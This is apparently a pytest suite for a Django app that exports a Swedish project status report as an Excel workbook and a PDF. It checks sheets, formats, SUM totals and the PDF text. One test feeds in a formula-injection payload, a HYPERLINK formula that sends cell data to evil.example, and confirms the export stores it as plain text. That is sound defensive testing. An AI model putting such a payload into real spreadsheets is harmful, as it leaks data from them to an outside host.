"""The status report as .xlsx read back with openpyxl and as PDF read back with pypdf."""

import datetime
import io
from decimal import Decimal

from django.db import connection
from django.test.utils import CaptureQueriesContext

import openpyxl
import pytest
from openpyxl.chart import BarChart
from pypdf import PdfReader

from governance.reports import content as report_content
from governance.reports import excel as report_excel
from governance.reports import pdf as report_pdf
from governance.reports import review
from tests.governance.budget.fixtures import add_entries, build_small_budget
from tests.governance.common.tagged_pdf import assert_tagged
from tests.governance.reports.fixtures import add_register_data, build_report

pytestmark = pytest.mark.django_db

SHEETS = [
    "Sammanfattning",
    "Aktiviteter",
    "Budget",
    "Utfall",
    "Finansiärer",
    "Medfinansiering",
    "Månader",
    "Beslut",
    "Risker",
    "Indikatorer",
]


@pytest.fixture
def small(db):
    small = build_small_budget()
    add_register_data(small)
    return small


@pytest.fixture
def report(small, project_leader):
    report = build_report(small)
    review.submit(report, project_leader)
    report.refresh_from_db()
    return report


def workbook(report):
    return openpyxl.load_workbook(io.BytesIO(report_excel.workbook_bytes(report)))


def sum_formula_value(sheet, cell):
    """What a spreadsheet program computes for =SUM(B2:B3)."""
    formula = cell.value
    assert formula.startswith("=SUM(")
    first, last = formula[5:-1].split(":")
    column = first.rstrip("0123456789")
    rows = range(int(first[len(column) :]), int(last[len(column) :]) + 1)
    return sum((Decimal(str(sheet[f"{column}{r}"].value or 0)) for r in rows), Decimal(0))


def test_workbook_sheets_headers_formats_and_totals(report):
    book = workbook(report)
    assert book.sheetnames == SHEETS
    budget = book["Budget"]
    headers = [c.value for c in budget[1]]
    assert headers == [
        "Arbetsområde",
        "Budget för hela projektet",
        "Budget hittills",
        "Utfall hittills",
        "Budget under perioden",
        "Utfall under perioden",
        "Avvikelse hittills",
        "Prognos för hela projektet",
        "Anmärkning",
    ]
    assert budget.freeze_panes == "A2"
    assert budget.auto_filter.ref == "A1:I3"
    assert budget.column_dimensions["A"].width == 34
    assert budget["A2"].value == "A. Arbetsgivare"
    assert Decimal(str(budget["D2"].value)) == Decimal("34000.55")
    assert budget["D2"].number_format == '#,##0.00 "kr"'
    total_row = budget[4]
    assert total_row[0].value == "Summa"
    expected = report_content.content(report)["budget"]["total"]
    amount_cells = total_row[1 : 1 + len(report_excel.AMOUNT_KEYS)]
    for cell, key in zip(amount_cells, report_excel.AMOUNT_KEYS, strict=True):
        assert cell.number_format == '#,##0.00 "kr"'
        assert sum_formula_value(budget, cell) == expected[key], key
    (chart,) = budget._charts
    assert isinstance(chart, BarChart) and len(chart.series) == 2
    utfall = book["Utfall"]
    assert utfall["A1"].value == "Kostnadsslag"
    last = utfall.max_row
    assert sum_formula_value(utfall, utfall[f"D{last}"]) == Decimal("34000.55")
    finansiarer = book["Finansiärer"]
    assert [c.value for c in finansiarer[1]][:4] == [
        "Finansiär",
        "Utlovat",
        "Budget hittills",
        "Utfall hittills",
    ]
    summary = book["Sammanfattning"]
    assert summary["B4"].value == datetime.datetime(2013, 4, 1)
    assert summary["B4"].number_format == "yyyy-mm-dd"
    activities = book["Aktiviteter"]
    assert activities["E2"].is_date
    indicators = book["Indikatorer"]
    assert indicators["A2"].value == "Andel pendlare mellan kommunerna"
    assert Decimal(str(indicators["D2"].value)) == Decimal("7.50")
    risks = book["Risker"]
    assert risks["A2"].value == "Arbetsgivarna deltar inte" and risks["D2"].value == 12


def test_workbook_queries_do_not_grow_with_cost_entries(small, project_leader):
    report = build_report(small)
    with CaptureQueriesContext(connection) as few:
        report_excel.workbook_bytes(report)
    add_entries(small, 300)
    with CaptureQueriesContext(connection) as many:
        report_excel.workbook_bytes(report)
    assert len(many) == len(few)


def test_pdf_text_holds_period_work_areas_and_totals(report):
    pdf = report_pdf.render_pdf(report)
    reader = PdfReader(io.BytesIO(pdf))
    text = "\n".join(page.extract_text() for page in reader.pages).replace("\u00a0", " ")
    assert len(reader.pages) >= 3
    assert "Lägesrapport 2013 kvartal 2" in text
    assert "1 april 2013 – 30 juni 2013" in text
    assert "A. Arbetsgivare" in text and "B. Styrkor" in text
    assert "180 000,75 kr" in text and "34 000,55 kr" in text and "35 999,91 kr" in text
    assert "Innehåll" in text and "Sida 2 av" in text
    assert "Grön" in text
    assert "/Table" in assert_tagged(pdf, title="Lägesrapport 2013 kvartal 2")


def test_report_text_is_never_a_formula_and_the_totals_always_are(small, project_leader):
    summary = '=HYPERLINK("http://evil.example/?leak="&B2,"Klicka här")'
    report = build_report(small, summary=summary)
    review.submit(report, project_leader)
    report.refresh_from_db()

    book = workbook(report)

    (row,) = [r for r in book["Sammanfattning"].iter_rows() if r[0].value == "Sammanfattning"]
    assert (row[1].value, row[1].data_type) == (summary, "s")
    for name in ("Budget", "Utfall", "Finansiärer"):
        sheet = book[name]
        totals = sheet[sheet.max_row]
        assert totals[0].value == "Summa"
        sums = [cell for cell in totals[1:] if cell.value is not None]
        assert sums, name
        for cell in sums:
            assert cell.data_type == "f" and cell.value.startswith("=SUM("), (name, cell)
